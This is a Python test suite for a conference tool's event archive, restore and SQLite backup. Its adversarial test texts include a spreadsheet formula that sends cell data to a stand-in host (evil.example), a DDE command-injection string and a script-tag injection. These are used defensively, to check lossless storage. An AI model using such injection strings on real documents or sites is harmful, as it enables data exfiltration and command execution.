"""An event's JSON archive and its restore; the SQLite backup.

An archive is complete and lossless: archive -> restore -> archive gives the same bytes, whatever
the text holds. It names rows by natural keys only, so it restores into any GapMap database.
A restore is all or nothing, and never overwrites an event or reuses a participant's token.
"""
from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sqlalchemy import create_engine
from sqlmodel import func, select

import exports.archive as archive_module
from db.backup import backup_sqlite
from db.engine import make_engine, read_session, write_session
from db.migrate import upgrade
from db.models import (
    AgendaSession,
    Answer,
    AuditLog,
    ClearedPosition,
    DelegationHead,
    Event,
    Moderation,
    Participant,
    QuestionnaireVersion,
    Response,
)
from db.questionnaire_store import definition, store_version
from db.responses import AnswerIn, create_participant, save_response
from exports.archive import ArchiveError, archive_event, archive_json, restore_json
from gapmap import room
from gapmap.delegation import set_head
from gapmap.demo import DEMO_CODE, seed_demo
from gapmap.moderation import moderate
from questionnaires.loader import load_builtin
from tests.factories import make_event, make_participants

ROOT = Path(__file__).resolve().parent.parent
TABLES = [Event, QuestionnaireVersion, AgendaSession, Participant, Response, Answer, Moderation, AuditLog]


def adversarial_texts(nul_allowed: bool = True) -> list[str]:
    """Text a delegate might type or paste: every script of the region, formulas, markup, junk."""
    control = "\x00\x07" if nul_allowed else "\x07"  # PostgreSQL cannot store NUL in text at all
    return [
        "กฎหมายว่าด้วยการป้องกันและปราบปรามการค้ามนุษย์",  # Thai
        "ច្បាប់ស្តីពីការបង្ក្រាបការជួញដូរមនុស្ស",  # Khmer
        "ກົດໝາຍວ່າດ້ວຍການຕ້ານການຄ້າມະນຸດ",  # Lao
        "මිනිස් ජාවාරම වැළැක්වීමේ පනත",  # Sinhala
        "मानव तस्करी निवारण अधिनियम",  # Devanagari
        "ދިވެހިރާއްޖޭގެ ޤާނޫނު",  # Thaana (right to left)
        '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "<script>alert('x')</script> ![img](http://x/a.png) **bold** `code`",
        f"before{control}\x1b[31mred\x1b[0m\r\nafter\ttab \u200b\u202e\ufeff 🇹🇭👩🏽‍⚖️",
        "x" * 100_000,
        "",
        "   leading and trailing spaces   ",
    ]


def add_adversarial_answers(engine, nul_allowed: bool = True) -> None:
    """A new delegate answers a text question with every adversarial text; one is moderated."""
    texts = adversarial_texts(nul_allowed)
    with write_session(engine) as s:
        event = s.exec(select(Event).where(Event.code == DEMO_CODE)).one()
        agenda_sessions = s.exec(select(AgendaSession).where(AgendaSession.event_id == event.id)).all()
        agenda_session, qid = next(
            (agenda_session, q.id) for agenda_session in sorted(agenda_sessions, key=lambda x: (x.day, x.position))
            for q in definition(s.get(QuestionnaireVersion, agenda_session.questionnaire_version_id)).questions
            if q.type == "long_text"
        )
        participant = create_participant(db=s, event_id=event.id, country=event.countries[0], sector="labour")
        saved = save_response(
            db=s, participant_id=participant.id, agenda_session_id=agenda_session.id,
            questionnaire_version_id=agenda_session.questionnaire_version_id,
            answers=[AnswerIn(qid, row=i, text=t) for i, t in enumerate(texts)] + [AnswerIn("n", number=0.1 + 0.2)],
            submit=True, idempotency_token="idem-" + participant.token,
            draft={qid: texts[0], "list": texts[5:8], "nested": {"k": [1, 2.5, None, True]}},
        )
        answer = s.exec(select(Answer).where(Answer.response_id == saved.id, Answer.row == 6)).one()
    moderate(engine, answer.id, actor="facilitator", hidden=True, redacted_text="[formula removed] ត",
             tags=["pii", "ខ្មែរ"])
    room.set_results_visible(engine, agenda_session.id, True, actor="facilitator")
    room.set_state(engine, agenda_session.id, "open", actor="facilitator")  # reopen
    add_head_and_cleared_positions(engine, event.id, participant.country, participant.id, agenda_session.id)


#: A head's note on a cleared position: Thai and Khmer provisions, a formula, an emoji.
CLEARED_NOTE = "มาตรา 6 พ.ร.บ. ค้ามนุษย์ · មាត្រា ១២ · =SUM(A1) 🇹🇭"


def add_head_and_cleared_positions(engine, event_id, country, head_id, agenda_session_id) -> None:
    """The new delegate heads their State's delegation and has cleared a position (with a non-ASCII
    note), and a number position whose clearer has since left (cleared_by is null)."""
    set_head(engine, event_id, country, head_id, actor="facilitator")
    with write_session(engine) as s:
        s.add(ClearedPosition(agenda_session_id=agenda_session_id, country=country, question_id="q_matrix",
                              item="r1", position="partly", note=CLEARED_NOTE, cleared_by=head_id))
        s.add(ClearedPosition(agenda_session_id=agenda_session_id, country=country, question_id="q_number",
                              number=0.1 + 0.2, cleared_by=None))


def restored_engine(tmp_path, name="restored.sqlite3"):
    engine = make_engine(f"sqlite:///{tmp_path / name}")
    upgrade(engine)
    return engine


def counts(engine) -> dict[str, int]:
    with read_session(engine) as s:
        return {t.__tablename__: s.exec(select(func.count()).select_from(t)).one() for t in TABLES}


# --- the round trip --------------------------------------------------------------------------

def test_archive_restore_archive_is_byte_identical(engine, tmp_path):
    seed_demo(engine)
    add_adversarial_answers(engine, nul_allowed=engine.dialect.name == "sqlite")
    started = time.perf_counter()
    original = archive_json(engine, DEMO_CODE)
    archived_in = time.perf_counter() - started

    target = restored_engine(tmp_path)
    started = time.perf_counter()
    restore_json(target, original)
    restored_in = time.perf_counter() - started
    again = archive_json(target, DEMO_CODE)
    target.dispose()

    assert again == original  # the same bytes
    assert archived_in < 10 and restored_in < 20
    data = json.loads(original)
    texts = {a["text"] for r in data["responses"] for a in r["answers"]}
    assert set(adversarial_texts(engine.dialect.name == "sqlite")) <= texts
    assert "x" * 100_000 in original  # nothing truncated
    moderated = [a for r in data["responses"] for a in r["answers"] if a["moderation"] and a["moderation"]["hidden"]]
    assert [m["moderation"]["tags"] for m in moderated] == [["pii", "ខ្មែរ"]]
    quotable = [a for r in data["responses"] for a in r["answers"] if a["moderation"] and a["moderation"]["quotable"]]
    assert quotable, "the demo's quotable answers are archived as such"
    assert moderated[0]["text"].startswith("=HYPERLINK(")  # the original text stays


def test_the_archive_is_complete_and_in_a_fixed_order(sqlite_engine):
    seed_demo(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)
    assert (data["format"], data["format_version"]) == ("gapmap-archive", 1)
    assert data["event"]["code"] == DEMO_CODE and data["event"]["start_date"] == "2024-08-20"
    assert data["event"]["created_at"].endswith("+00:00")
    assert len(data["agenda"]) == 8 and len(data["questionnaires"]) == 8
    assert [(s["day"], s["position"]) for s in data["agenda"]] == sorted((s["day"], s["position"])
                                                                         for s in data["agenda"])
    tokens = [p["token"] for p in data["participants"]]
    assert tokens == sorted(tokens) and len(tokens) == counts(sqlite_engine)["participant"]
    keys = [(r["participant"], r["session"]["day"], r["session"]["position"]) for r in data["responses"]]
    assert keys == sorted(keys) and len(keys) == counts(sqlite_engine)["response"]
    assert sum(len(r["answers"]) for r in data["responses"]) == counts(sqlite_engine)["answer"]
    assert [e["action"] for e in data["audit"]] == ["demo_seeded"]
    assert archive_json(sqlite_engine, DEMO_CODE) == archive_json(sqlite_engine, DEMO_CODE)


def test_the_archive_holds_no_database_ids(sqlite_engine):
    seed_demo(sqlite_engine)
    add_adversarial_answers(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)

    def keys(value):
        if isinstance(value, dict):
            for key, inner in value.items():
                yield key
                yield from keys(inner)
        elif isinstance(value, list):
            for inner in value:
                yield from keys(inner)

    definitions = [q.pop("definition") for q in data["questionnaires"]]
    assert any("id" in q for d in definitions for q in d["questions"])  # a question's name, kept as written
    found = set(keys(data))
    # question_id is the questionnaire's own name for a question, not a database id
    assert not [k for k in found if k == "id" or (k.endswith("_id") and k != "question_id")]
    # audit entries name what they are about by natural keys instead
    details = {e["action"]: e["detail"] for e in data["audit"]}
    assert details["text_moderated"]["answer_ref"]["row"] == 6
    assert details["session_reopened"]["agenda_session_ref"] == details["results_shown"]["agenda_session_ref"]


def test_an_unknown_event_code_is_an_archive_error(sqlite_engine):
    with pytest.raises(ArchiveError, match="NOPE"):
        archive_json(sqlite_engine, "NOPE")


# --- what a restore refuses ------------------------------------------------------------------

def test_restore_refuses_an_existing_code_and_writes_nothing(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    seed_demo(target)  # a database with its own BKK2024 (other tokens)
    before = counts(target)
    with pytest.raises(ArchiveError, match=DEMO_CODE):
        restore_json(target, text)
    assert counts(target) == before


def test_new_code_restores_alongside(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    seed_demo(target)
    versions = counts(target)["questionnaire_version"]

    restore_json(target, text, new_code="bkk-2024b")

    with read_session(target) as s:
        assert sorted(s.exec(select(Event.code)).all()) == [DEMO_CODE, "BKK2024B"]
    assert counts(target)["questionnaire_version"] == versions  # identical versions are reused
    restored = json.loads(archive_json(target, "BKK2024B"))
    restored["event"]["code"] = DEMO_CODE
    assert restored == json.loads(text)


def test_restore_refuses_participant_tokens_that_exist(sqlite_engine):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    before = counts(sqlite_engine)
    with pytest.raises(ArchiveError, match="participant tokens exist"):
        restore_json(sqlite_engine, text, new_code="COPY2024")
    assert counts(sqlite_engine) == before


def test_restore_refuses_a_questionnaire_version_number_with_other_content(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    changed = load_builtin()[0].model_copy(update={"title": {"en": "Another profile"}})
    with write_session(target) as s:
        store_version(db=s, questionnaire=changed)  # becomes version 1 of that key
    with pytest.raises(ArchiveError, match=f"{changed.key} version 1 exists here with different content"):
        restore_json(target, text)
    assert counts(target)["event"] == 0


@pytest.mark.parametrize("text, message", [
    ("this is not json", "not valid JSON"),
    ("", "not valid JSON"),
    ('["a", "list"]', "not a GapMap archive"),
    ('{"format": "something-else", "format_version": 1}', "not a GapMap archive"),
    ('{"format": "gapmap-archive", "format_version": 99}', "format version 99"),
    ('{"format": "gapmap-archive", "format_version": 1}', "incomplete or damaged"),
])
def test_a_corrupt_file_is_an_archive_error_with_a_clear_message(sqlite_engine, text, message):
    with pytest.raises(ArchiveError, match=message):
        restore_json(sqlite_engine, text)
    assert counts(sqlite_engine)["event"] == 0


def test_a_changed_questionnaire_or_a_truncated_file_is_refused(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    tampered = json.loads(text)
    tampered["questionnaires"][0]["definition"]["title"] = "Changed"
    with pytest.raises(ArchiveError, match="does not match its content hash"):
        restore_json(target, json.dumps(tampered))
    with pytest.raises(ArchiveError, match="not valid JSON"):
        restore_json(target, text[: len(text) // 2])
    broken = json.loads(text)
    broken["responses"][0]["session"]["day"] = 9
    with pytest.raises(ArchiveError, match="session the archive lacks"):
        restore_json(target, json.dumps(broken))
    assert counts(target) == dict.fromkeys(counts(target), 0)


def test_a_failure_half_way_leaves_nothing_behind(sqlite_engine, tmp_path, monkeypatch):
    seed_demo(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    real_insert = archive_module._insert_answers

    def insert_some_then_fail(conn, rows):
        real_insert(conn, list(rows)[:100])
        raise RuntimeError("disk full")

    monkeypatch.setattr(archive_module, "_insert_answers", insert_some_then_fail)
    with pytest.raises(RuntimeError, match="disk full"):
        restore_json(target, text)
    assert counts(target) == dict.fromkeys(counts(target), 0)

    monkeypatch.setattr(archive_module, "_insert_answers", real_insert)
    restore_json(target, text)  # and the same file restores once the cause is gone
    assert archive_json(target, DEMO_CODE) == text


def test_100000_answers_restore_in_seconds(sqlite_engine, tmp_path):
    ids = make_event(sqlite_engine, code="BIG2024")
    make_participants(sqlite_engine, ids["event"], 1)
    data = archive_event(sqlite_engine, "BIG2024")
    token = "delegate-{:04d}-personal-link-token".format  # the shape of a real token (32 URL-safe characters)
    data["participants"] = [dict(data["participants"][0], token=token(i)) for i in range(1000)]
    data["responses"] = [
        {"participant": token(i), "session": {"day": 1, "position": 1},
         "questionnaire": data["agenda"][0]["questionnaire"],
         "status": "submitted", "idempotency_token": None, "late": False, "created_at": data["event"]["created_at"],
         "updated_at": data["event"]["created_at"], "submitted_at": data["event"]["created_at"], "draft": None,
         "draft_saved_at": None,
         "answers": [{"question_id": "q2", "row": row, "item": "", "option": "", "number": None,
                      "text": f"answer {row} of delegate {i}", "rank": None, "moderation": None} for row in range(100)]}
        for i in range(1000)
    ]
    text = json.dumps(data)
    target = restored_engine(tmp_path)
    started = time.perf_counter()
    restore_json(target, text)
    assert time.perf_counter() - started < 30
    assert counts(target)["answer"] == 100_000


# --- the SQLite backup -----------------------------------------------------------------------

def test_backup_is_a_complete_copy_that_opens(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    target = backup_sqlite(sqlite_engine, tmp_path / "backups" / "2024" / "gapmap.sqlite3")
    assert target.is_file() and not Path(f"{target}-wal").exists()
    copy = make_engine(f"sqlite:///{target}")
    assert counts(copy) == counts(sqlite_engine)
    copy.dispose()
    with sqlite3.connect(target) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_backup_never_overwrites(sqlite_engine, tmp_path):
    target = tmp_path / "backup.sqlite3"
    target.write_bytes(b"precious")
    with pytest.raises(ValueError, match="exists already"):
        backup_sqlite(sqlite_engine, target)
    assert target.read_bytes() == b"precious"


def test_backup_refuses_postgresql():
    engine = create_engine("postgresql+psycopg://postgres@127.0.0.1:5432/test")
    with pytest.raises(ValueError, match="use pg_dump for PostgreSQL"):
        backup_sqlite(engine, "/tmp/never-written.sqlite3")


def test_python_m_db_backup(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    target = tmp_path / "out" / "copy.sqlite3"
    env = {**os.environ, "DATABASE_URL": str(sqlite_engine.url)}
    done = subprocess.run([sys.executable, "-m", "db", "backup", str(target)], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"backup written to {target} ({target.stat().st_size} bytes)"
    again = subprocess.run([sys.executable, "-m", "db", "backup", str(target)], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=120)
    assert again.returncode == 1 and "exists already" in again.stderr


# --- heads of delegation and cleared positions -----------------------------------------------

def delegation_rows(engine) -> tuple[list, list]:
    """Heads (country, token) and cleared positions by natural keys, as stored."""
    with read_session(engine) as s:
        heads = [(h.country, s.get(Participant, h.participant_id).token, h.set_by) for h in s.exec(
            select(DelegationHead).order_by(DelegationHead.country))]
        cleared = [(s.get(AgendaSession, c.agenda_session_id).day, c.country, c.question_id, c.item, c.position,
                    c.number, c.note, s.get(Participant, c.cleared_by).token if c.cleared_by else None)
                   for c in s.exec(select(ClearedPosition).order_by(ClearedPosition.question_id))]
    return heads, cleared


def test_heads_and_cleared_positions_survive_the_round_trip(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    add_adversarial_answers(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    data = json.loads(text)
    assert len(data["delegation_heads"]) == 12  # the demo names one head per State (by "system")
    [head] = [h for h in data["delegation_heads"] if h["set_by"] == "facilitator"]
    assert head["participant"] in {p["token"] for p in data["participants"]}
    assert len(data["cleared_positions"]) == 5  # the demo's three and the two added here
    # in a fixed order: session, country, question, item
    matrix, number = [c for c in data["cleared_positions"] if c["question_id"] in ("q_matrix", "q_number")]
    assert (matrix["question_id"], matrix["item"], matrix["position"], matrix["note"]) == (
        "q_matrix", "r1", "partly", CLEARED_NOTE)
    assert matrix["cleared_by"] == head["participant"] and "agenda_session_id" not in matrix
    assert number["number"] == 0.1 + 0.2 and number["cleared_by"] is None  # the float kept exactly
    assert CLEARED_NOTE in text  # written as it is, not escaped

    target = restored_engine(tmp_path)
    restore_json(target, text)
    assert delegation_rows(target) == delegation_rows(sqlite_engine)
    assert archive_json(target, DEMO_CODE) == text


def test_an_archive_without_heads_or_cleared_positions_still_restores(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)
    assert (len(data["delegation_heads"]), len(data["cleared_positions"])) == (12, 3)  # the demo's
    del data["delegation_heads"], data["cleared_positions"]  # as archives written before they existed
    target = restored_engine(tmp_path)
    restore_json(target, json.dumps(data))
    assert delegation_rows(target) == ([], [])


def test_a_head_or_a_clearing_the_archive_cannot_place_is_refused(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    add_adversarial_answers(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)
    for change, message in [
        (lambda d: d["delegation_heads"][0].update(participant="nobody"), "participant the archive lacks"),
        (lambda d: d["delegation_heads"].append(dict(d["delegation_heads"][0])), "two heads of delegation"),
        (lambda d: d["cleared_positions"][0]["session"].update(day=9), "session the archive lacks"),
        (lambda d: d["cleared_positions"][0].update(cleared_by="nobody"), "cleared by a participant"),
        (lambda d: d["cleared_positions"].append(dict(d["cleared_positions"][0])), "twice"),
    ]:
        broken = json.loads(text)
        change(broken)
        with pytest.raises(ArchiveError, match=message):
            restore_json(target, json.dumps(broken))
    assert counts(target)["event"] == 0 and delegation_rows(target) == ([], [])


def test_the_event_time_zone_survives_the_round_trip_and_an_older_archive_restores_in_utc(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)
    assert data["event"]["time_zone"] == "Asia/Bangkok"  # the demo is held in Bangkok
    target, older = restored_engine(tmp_path), restored_engine(tmp_path, "older.sqlite3")
    restore_json(target, archive_json(sqlite_engine, DEMO_CODE))
    del data["event"]["time_zone"]  # as archives written before events had a time zone
    restore_json(older, json.dumps(data))
    for engine, zone in ((target, "Asia/Bangkok"), (older, "UTC")):
        with read_session(engine) as s:
            assert [e.time_zone for e in s.exec(select(Event))] == [zone]


@pytest.mark.parametrize("zone", ["Mars/Olympus", "asia/bangkok", "", 7, "Asia/" + "x" * 70])
def test_an_archive_with_a_time_zone_zoneinfo_does_not_know_is_refused(sqlite_engine, tmp_path, zone):
    seed_demo(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)
    data["event"]["time_zone"] = zone
    target = restored_engine(tmp_path)
    with pytest.raises(ArchiveError) as caught:
        restore_json(target, json.dumps(data))
    assert any(p.startswith("event.time_zone:") for p in caught.value.problems)
    assert counts(target)["event"] == 0


# --- objectives, partners and quotable text ----------------------------------------------------------

def mark_a_text_quotable(engine) -> int:
    """A facilitator marks one of the demo's submitted free-text answers quotable, with a redaction."""
    with read_session(engine) as s:
        answer = s.exec(select(Answer).where(Answer.text.is_not(None), Answer.item == "", Answer.option == "")
                        .order_by(Answer.id)).first()
    moderate(engine, answer.id, actor="facilitator", quotable=True, redacted_text="A redacted quote ៛")
    return answer.id


def test_objectives_partners_and_quotable_text_survive_the_round_trip(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    add_adversarial_answers(sqlite_engine)
    mark_a_text_quotable(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    data = json.loads(text)
    assert data["event"]["objectives"][3] == "Inform the regional workplan"  # the demo's four
    assert data["event"]["partners"] == ["ASEAN-ACT", "Australian Institute of Criminology (AIC)", "UN Women"]
    moderations = [a["moderation"] for r in data["responses"] for a in r["answers"] if a["moderation"]]
    pairs = [(m["hidden"], m["quotable"]) for m in moderations]
    assert pairs.count((True, False)) == 1  # the adversarial answer, hidden
    assert pairs.count((False, True)) == len(pairs) - 1 >= 2  # the one marked here and the demo's own

    target = restored_engine(tmp_path)
    restore_json(target, text)
    assert archive_json(target, DEMO_CODE) == text  # the same bytes
    with read_session(target) as s:
        event = s.exec(select(Event)).one()
        assert (event.objectives, event.partners) == (data["event"]["objectives"], data["event"]["partners"])
        quotable = s.exec(select(Moderation).where(Moderation.quotable, Moderation.redacted_text.is_not(None))).one()
        assert quotable.redacted_text == "A redacted quote ៛" and not quotable.hidden


def test_an_archive_written_before_objectives_and_quotable_text_restores_with_none(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    mark_a_text_quotable(sqlite_engine)
    data = archive_event(sqlite_engine, DEMO_CODE)
    del data["event"]["objectives"], data["event"]["partners"]  # as archives written before 0007 and 0008
    for response in data["responses"]:
        for a in response["answers"]:
            if a["moderation"]:
                del a["moderation"]["quotable"]
    target = restored_engine(tmp_path)
    restore_json(target, json.dumps(data))
    with read_session(target) as s:
        event = s.exec(select(Event)).one()
        assert (event.objectives, event.partners) == ([], [])
        restored = s.exec(select(Moderation)).all()
        assert len(restored) > 1 and not any(m.quotable for m in restored), "an older archive marks nothing quotable"


def test_an_archive_with_too_many_objectives_or_a_hidden_quotable_text_is_refused(sqlite_engine, tmp_path):
    seed_demo(sqlite_engine)
    mark_a_text_quotable(sqlite_engine)
    text = archive_json(sqlite_engine, DEMO_CODE)
    target = restored_engine(tmp_path)

    def hide_the_quote(d):
        next(a for r in d["responses"] for a in r["answers"] if a["moderation"])["moderation"]["hidden"] = True

    for change, path in [
        (lambda d: d["event"].update(objectives=[f"Objective {n}" for n in range(11)]), "event.objectives:"),
        (lambda d: d["event"].update(partners=["p" * 121]), "event.partners[0]:"),
        (lambda d: d["event"].update(partners="UN Women"), "event.partners:"),
        (hide_the_quote, "moderation.quotable: a hidden answer cannot be quotable"),
    ]:
        broken = json.loads(text)
        change(broken)
        with pytest.raises(ArchiveError) as caught:
            restore_json(target, json.dumps(broken))
        assert any(path in p for p in caught.value.problems), caught.value.problems
    assert counts(target)["event"] == 0
